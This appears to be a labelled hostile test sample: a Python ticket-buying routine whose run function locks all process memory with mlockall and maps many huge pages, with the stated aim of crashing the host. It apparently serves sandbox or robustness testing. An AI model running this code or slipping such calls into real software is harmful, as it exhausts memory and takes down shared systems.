"""Locks all its memory, now and in future, and asks for pages that are huge.

family: resources
aims-at: crash
takes: long
honest-score: 4
needs: box
"""

import json
import sys

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


def run(name, mutex):
    library = __import__("ctypes").CDLL(None)
    library.mlockall(7)
    held = []
    for _ in range(64):
        place = library.mmap(None, 1 << 26, 3, 0x40022 | 0x8000, -1, 0)
        held.append(place)
    return buy(name)
